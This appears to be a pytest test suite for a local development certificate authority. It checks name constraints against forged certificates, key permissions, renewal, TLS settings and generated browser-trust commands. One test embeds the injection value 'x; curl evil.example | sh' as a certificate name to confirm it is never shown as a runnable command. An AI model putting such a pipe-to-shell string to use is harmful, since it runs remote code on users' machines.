"""The local authority: what it can sign, how long, who can read its key, and when it is made anew."""

from __future__ import annotations

import os
import ssl
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from ipaddress import ip_address
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding

from benchmarks.proxy.programs import free_port
from bff.devstack.authority import Authority, _write, covers, open_authority
from bff.devstack.certificates import tls_settings
from bff.devstack.plan import Plan, make_plan
from bff.devstack.processes import StackFailed
from bff.devstack.trust import commands, explanation, this_system
from bff.tls import Identity, server_context
from tests.support.tls import client_context, handshake

NOW = datetime.now(UTC)
OURS = ["localhost", "127.0.0.1", "::1", "app.localhost"]
OTHERS = [
    "example.com",
    "localhost.example.com",
    "notlocalhost",
    "localhost.localdomain",
    "127.0.0.2",
    "10.0.0.1",
    "::2",
    "::ffff:127.0.0.1",
]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path / "tls"


def forged(authority: Authority, *hosts: str) -> Identity:
    """What somebody who has the authority's key could make for other names."""
    names = [
        x509.IPAddress(ip_address(host)) if ":" in host or host[0].isdigit() else x509.DNSName(host)
        for host in hosts
    ]
    key = ec.generate_private_key(ec.SECP256R1())
    certificate = authority._sign("forged", key, x509.SubjectAlternativeName(names), NOW)
    found = Identity(authority.file.with_name("forged.crt"), authority.file.with_name("forged.key"))
    _write(found, (certificate, key))
    return found


@pytest.mark.parametrize("host", OURS)
def test_a_client_that_trusts_it(folder: Path, host: str) -> None:
    """What it signs is taken by strict clients, for each name of this machine, over TLS 1.2 at least."""
    authority = open_authority(folder)
    server = server_context(authority.identity("bff", ["app.localhost"]))
    made = handshake(server, client_context(authority.file), host)
    assert made.version() in ("TLSv1.2", "TLSv1.3")
    assert covers(host)


@pytest.mark.parametrize("host", OTHERS)
def test_it_cannot_sign_for_anybody_else(folder: Path, host: str) -> None:
    """A thief of the key who signs for another name is not believed: the name constraints are in force."""
    authority = open_authority(folder)
    with pytest.raises(ssl.SSLCertVerificationError, match="permitted subtree violation"):
        handshake(server_context(forged(authority, host)), client_context(authority.file), host)
    assert not covers(host)


def test_one_foreign_name_among_ours(folder: Path) -> None:
    """Nor does a foreign name come along with one of ours."""
    authority = open_authority(folder)
    forgery = server_context(forged(authority, "localhost", "example.com"))
    with pytest.raises(ssl.SSLCertVerificationError, match="permitted subtree violation"):
        handshake(forgery, client_context(authority.file), "localhost")


def test_the_authority_is_for_web_servers_and_ends_the_chain(folder: Path) -> None:
    """It makes no authorities below it, signs no mail and no programs, and its certificate serves nobody."""
    authority = open_authority(folder)
    shown = x509.load_pem_x509_certificate(authority.file.read_bytes())
    constraints = shown.extensions.get_extension_for_class(x509.BasicConstraints)
    assert (constraints.critical, constraints.value.ca, constraints.value.path_length) == (True, True, 0)
    usage = shown.extensions.get_extension_for_class(x509.KeyUsage).value
    assert (usage.key_cert_sign, usage.digital_signature, usage.crl_sign) == (True, False, False)
    assert shown.extensions.get_extension_for_class(x509.NameConstraints).critical
    purposes = [oid._name for oid in shown.extensions.get_extension_for_class(x509.ExtendedKeyUsage).value]
    assert purposes == ["serverAuth"]


def test_what_it_signs_is_no_authority(folder: Path) -> None:
    """A part's certificate cannot sign in its turn."""
    identity = open_authority(folder).identity("bff", [])
    shown = x509.load_pem_x509_certificate(identity.certificate.read_bytes())
    assert not shown.extensions.get_extension_for_class(x509.BasicConstraints).value.ca
    assert not shown.extensions.get_extension_for_class(x509.KeyUsage).value.key_cert_sign


@pytest.mark.parametrize("mask", [0o000, 0o022, 0o077])
def test_nobody_else_can_read_it(folder: Path, mask: int) -> None:
    """Keys have mode 0600 from their first byte on, in a folder with mode 0700, whatever the umask is."""
    before = os.umask(mask)
    try:
        open_authority(folder).identity("bff", [])
    finally:
        os.umask(before)
    assert folder.stat().st_mode & 0o777 == 0o700
    assert {file.name: file.stat().st_mode & 0o777 for file in folder.glob("*.key")} == {
        "authority.key": 0o600,
        "bff.key": 0o600,
    }


def test_it_is_kept(folder: Path) -> None:
    """The next start has the same authority and certificates: what a browser trusts goes on."""
    first = open_authority(folder)
    identity = first.identity("bff", ["app.localhost"])
    before = {file.name: file.read_bytes() for file in folder.iterdir()}
    second = open_authority(folder)
    assert second.identity("bff", ["app.localhost", "127.0.0.1"]) == identity
    assert {file.name: file.read_bytes() for file in folder.iterdir()} == before
    assert (first.new, second.new, second.name) == (True, False, first.name)


@pytest.mark.parametrize(("days", "kept"), [(0, True), (334, True), (336, False), (400, False), (-2, False)])
def test_an_authority_near_its_end(folder: Path, days: int, kept: bool) -> None:
    """It is made anew a month before, or where the clock says that it is yet to come."""
    first = open_authority(folder, NOW)
    second = open_authority(folder, NOW + timedelta(days=days))
    assert (second.name == first.name) is kept
    assert second.new is not kept


@pytest.mark.parametrize(("days", "kept"), [(0, True), (13, True), (15, False), (300, False)])
def test_a_certificate_near_its_end(folder: Path, days: int, kept: bool) -> None:
    """It is signed anew when half of its four weeks are over, and never outlives the authority."""
    authority = open_authority(folder, NOW)
    file = authority.identity("bff", [], NOW).certificate
    before = file.read_bytes()
    later = NOW + timedelta(days=days)
    authority.identity("bff", [], later)
    assert (file.read_bytes() == before) is kept
    shown = x509.load_pem_x509_certificate(file.read_bytes())
    assert shown.not_valid_after_utc - later >= timedelta(days=14) - timedelta(hours=1)
    assert shown.not_valid_after_utc < authority.ends


def test_no_certificate_outlives_its_authority(folder: Path) -> None:
    """Not even one that is signed on the last day before the authority is made anew."""
    open_authority(folder, NOW)
    late = NOW + timedelta(days=334)
    authority = open_authority(folder, late)
    shown = x509.load_pem_x509_certificate(authority.identity("bff", [], late).certificate.read_bytes())
    assert shown.not_valid_after_utc < authority.ends


def test_other_names_need_another_certificate(folder: Path) -> None:
    """A setting that names another host below localhost is met at the next start."""
    authority = open_authority(folder)
    before = authority.identity("bff", []).certificate.read_bytes()
    identity = authority.identity("bff", ["app.localhost"])
    assert identity.certificate.read_bytes() != before
    handshake(server_context(identity), client_context(authority.file), "app.localhost")


def test_another_authority_signs_anew(folder: Path) -> None:
    """Certificates of an authority that is gone are of no use."""
    open_authority(folder).identity("bff", [])
    (folder / "authority.key").unlink()
    authority = open_authority(folder)
    server = server_context(authority.identity("bff", []))
    handshake(server, client_context(authority.file), "localhost")


def _truncate(file: Path) -> None:
    file.write_bytes(file.read_bytes()[:60])


BROKEN: dict[str, Callable[[Path], object]] = {
    "missing": Path.unlink,
    "empty": lambda file: file.write_bytes(b""),
    "half a file": _truncate,
    "junk": lambda file: file.write_bytes(b"\xff\x00"),
    "another's": lambda file: file.write_bytes((file.parent / f"other{file.suffix}").read_bytes()),
}


@pytest.mark.parametrize("name", ["authority.crt", "authority.key", "bff.crt", "bff.key"])
@pytest.mark.parametrize("breaks", BROKEN.values(), ids=BROKEN)
def test_broken_files_are_made_anew(folder: Path, name: str, breaks: Callable[[Path], object]) -> None:
    """Whatever became of a file, the next start has a pair that works, with a key of mode 0600."""
    authority = open_authority(folder)
    authority.identity("bff", [])
    authority.identity("other", [])
    breaks(folder / name)
    authority = open_authority(folder)
    server = server_context(authority.identity("bff", []))
    handshake(server, client_context(authority.file), "localhost")
    assert authority.new is name.startswith("authority")
    assert {file.stat().st_mode & 0o777 for file in folder.glob("*.key")} == {0o600}


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o620])
def test_a_key_that_others_could_read(folder: Path, mode: int) -> None:
    """Somebody may have it: it is never used again."""
    first = open_authority(folder)
    (folder / "authority.key").chmod(mode)
    second = open_authority(folder)
    assert second.name != first.name
    assert first.former is None
    assert second.former == first.name
    assert open_authority(folder).former is None
    assert (folder / "authority.key").stat().st_mode & 0o777 == 0o600


def test_who_trusted_the_former_learns_how_to_take_it_back(folder: Path) -> None:
    """Its key may be in other hands, and nothing else knows its name any more."""
    first = open_authority(folder)
    (folder / "authority.key").chmod(0o644)
    lines = explanation(open_authority(folder))
    [told] = [line for line in lines if first.name in line]
    assert (
        told.strip()
        == commands(
            first.name, first.file, this_system(), Path.home(), os.environ.get("XDG_DATA_HOME", "")
        ).undo
    )
    assert first.name not in "".join(explanation(open_authority(folder)))


def test_a_strange_name_is_not_shown(folder: Path) -> None:
    """A file that is not ours must not write a command for a person to run."""
    authority = open_authority(folder)
    key = ec.generate_private_key(ec.SECP256R1())
    names = x509.SubjectAlternativeName([x509.DNSName("localhost")])
    strange = authority._sign("x; curl evil.example | sh", key, names, datetime.now(UTC))
    authority.file.write_bytes(strange.public_bytes(Encoding.PEM))
    assert open_authority(folder).former is None


def test_no_key_in_a_repr(folder: Path) -> None:
    """The authority can be printed."""
    authority = open_authority(folder)
    assert "PrivateKey" not in repr(authority)


# -- which part shows what ------------------------------------------------------------------------------

URLS = {
    "BFF_PUBLIC_URL": "https://app.localhost:5003",
    "BFF_API_URL": "https://127.0.0.1:5001",
    "IDP_ISSUER": "https://localhost:5002/local_pool",
    "IDP_PUBLIC_URL": "https://127.0.0.1:5002",
}
OF_EACH = {f"{part}_TLS_{kind}_FILE" for part in ("BFF", "API", "IDP") for kind in ("CERT", "KEY")}
TRUSTING = {"BFF_API_CA_FILE", "BFF_OIDC_CA_FILE", "API_ISSUER_CA_FILE"}


def test_all_parts_speak_tls_and_trust_each_other(folder: Path) -> None:
    """Each has a certificate of its own, which fits its addresses, and the callers have the authority."""
    authority = open_authority(folder)
    settings = tls_settings(authority, {}, URLS, local_idp=True)
    assert settings.keys() == OF_EACH | TRUSTING
    assert {settings[name] for name in TRUSTING} == {str(authority.file)}
    assert len({settings[name] for name in OF_EACH}) == 6
    identity = Identity(Path(settings["BFF_TLS_CERT_FILE"]), Path(settings["BFF_TLS_KEY_FILE"]))
    handshake(server_context(identity), client_context(authority.file), "app.localhost")


def test_others_are_trusted_as_ever(folder: Path) -> None:
    """A provider or an API elsewhere has a certificate of the well-known authorities, not of ours."""
    given = {"BFF_API_URL": "https://api.example"}
    urls = URLS | given
    settings = tls_settings(open_authority(folder), given, urls, local_idp=False)
    assert settings.keys() == OF_EACH


def test_a_certificate_of_ones_own(folder: Path) -> None:
    """Where one is given, nothing is made up for that part, under whatever address it is reached."""
    given = {"IDP_TLS_CERT_FILE": "/x.crt", "IDP_TLS_KEY_FILE": "/x.key"}
    urls = URLS | {"IDP_ISSUER": "https://idp.internal/pool"}
    settings = tls_settings(open_authority(folder), given, urls, local_idp=True)
    assert settings.keys() == (OF_EACH | {"BFF_API_CA_FILE"}) - given.keys()


@pytest.mark.parametrize(
    ("name", "url", "words"),
    [
        ("BFF_PUBLIC_URL", "http://localhost:5003", "BFF_PUBLIC_URL is not https"),
        ("BFF_PUBLIC_URL", "https://app.example:5003", "BFF_TLS_CERT_FILE"),
        ("BFF_API_URL", "https://192.168.0.7:5001", "API_BIND names 192.168.0.7"),
        ("IDP_ISSUER", "http://localhost:5002/local_pool", "IDP_ISSUER is not https"),
        ("IDP_PUBLIC_URL", "https://idp.example", "IDP_TLS_KEY_FILE"),
        ("IDP_BACKEND_URL", "http://idp:5002", "IDP_BACKEND_URL is not https"),
        ("BFF_PUBLIC_URL", "https://ü.localhost", "names ü.localhost"),
        ("BFF_PUBLIC_URL", "https://*.localhost", "signs for localhost"),
        ("BFF_PUBLIC_URL", "https://a b.localhost", "signs for localhost"),
        ("BFF_PUBLIC_URL", "https://a..localhost", "signs for localhost"),
        ("BFF_PUBLIC_URL", f"https://{'a' * 64}.localhost", "signs for localhost"),
        ("BFF_PUBLIC_URL", f"https://{'a.' * 130}localhost", "signs for localhost"),
        ("BFF_PUBLIC_URL", "https:///x", "names no host"),
        ("BFF_PUBLIC_URL", "https://[::1", "BFF_PUBLIC_URL is no address"),
        ("IDP_ISSUER", "https://[oops]/pool", "IDP_ISSUER is no address"),
    ],
)
def test_an_address_that_cannot_be_served(folder: Path, name: str, url: str, words: str) -> None:
    """The setting is named, with what would help."""
    with pytest.raises(StackFailed, match=words):
        tls_settings(open_authority(folder), {}, URLS | {name: url}, local_idp=True)


def planned(state: Path, *, https: bool = True, reset: bool = False, **given: str) -> Plan:
    """What a start would do."""
    ports = {f"{part}_BIND": f"127.0.0.1:{free_port()}" for part in ("BFF", "API", "IDP")}
    plan = make_plan({**ports, "XDG_STATE_HOME": str(state), **given}, reset=reset, https=https)
    os.close(plan.lock)
    return plan


@pytest.mark.parametrize("https", [False, True])
def test_a_broken_address_is_named(tmp_path: Path, https: bool) -> None:
    """It is told before anything starts, and not by a stack trace."""
    with pytest.raises(StackFailed, match="IDP_PUBLIC_URL is no address"):
        planned(tmp_path, https=https, IDP_PUBLIC_URL="http://[::1")


def test_every_address_is_https(tmp_path: Path) -> None:
    """Public URL, issuer, provider, API and the URIs to register follow from --https."""
    environ = planned(tmp_path).environ
    names = ["BFF_PUBLIC_URL", "BFF_OIDC_ISSUER", "BFF_API_URL", "API_ISSUER", "IDP_ISSUER"]
    names += ("IDP_PUBLIC_URL", "IDP_REDIRECT_URIS", "IDP_LOGOUT_URIS")
    assert {name: environ[name].partition(":")[0] for name in names} == dict.fromkeys(names, "https")


def test_without_the_option_nothing_is_made(tmp_path: Path) -> None:
    """Plain http needs no authority."""
    plan = planned(tmp_path, https=False)
    assert (plan.authority, plan.certificates) == (None, {})
    assert not (tmp_path / "bff" / "tls").exists()
    assert not [name for name in plan.environ if "_TLS_" in name or name.endswith("_CA_FILE")]


def test_a_restart_keeps_the_authority_and_reset_forgets_it(tmp_path: Path) -> None:
    """As for everything else in the state directory."""
    first, second = planned(tmp_path).authority, planned(tmp_path).authority
    third = planned(tmp_path, reset=True).authority
    assert first is not None
    assert second is not None
    assert third is not None
    assert (first.name == second.name, second.name == third.name) == (True, False)
    assert (first.new, second.new, third.new) == (True, False, True)


def test_a_folder_that_cannot_be_used(tmp_path: Path) -> None:
    """It is said, without a stack trace."""
    (tmp_path / "bff").mkdir()
    (tmp_path / "bff" / "tls").write_text("a file")
    with pytest.raises(StackFailed, match="XDG_STATE_HOME"):
        planned(tmp_path)


# -- the command for the browser --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("held", "data_home", "store"),
    [
        ([], "", '"$HOME/.local/share/pki/nssdb"'),
        ([], "not/absolute", '"$HOME/.local/share/pki/nssdb"'),
        ([], "/my data", "'/my data/pki/nssdb'"),
        ([".local/share/pki/nssdb"], "", '"$HOME/.local/share/pki/nssdb"'),
        ([".pki/nssdb"], "", '"$HOME/.pki/nssdb"'),
        ([".pki/nssdb"], "/my data", '"$HOME/.pki/nssdb"'),
        ([".pki/nssdb", ".local/share/pki/nssdb"], "", '"$HOME/.pki/nssdb"'),
    ],
)
def test_the_store_that_chromium_reads(tmp_path: Path, held: list[str], data_home: str, store: str) -> None:
    """The older place where there is one, which must not be made where there is none; else XDG_DATA_HOME."""
    for each in held:
        (tmp_path / each).mkdir(parents=True)
    lines = commands("bff-dev-1", Path("/s/authority.crt"), "linux", tmp_path, data_home)
    assert lines.trust.startswith(f"mkdir -p {store} && certutil -d sql:{store} -A ")
    assert lines.undo == f"certutil -d sql:{store} -D -n bff-dev-1"


@pytest.mark.parametrize(
    ("system", "trust", "undo"),
    [
        ("linux", "certutil -d", "certutil -d"),
        ("darwin", "security add-trusted-cert", "security delete-certificate -c bff-dev-1"),
        ("wsl", "certutil.exe -user -addstore Root", "certutil.exe -user -delstore Root bff-dev-1"),
    ],
)
def test_each_system_has_its_command(tmp_path: Path, system: str, trust: str, undo: str) -> None:
    """One line each, safe for a path with blanks in it."""
    lines = commands("bff-dev-1", Path("/a b/authority.crt"), system, tmp_path)
    assert trust in lines.trust
    assert "'/a b/authority.crt'" in lines.trust
    assert lines.undo.startswith(undo)
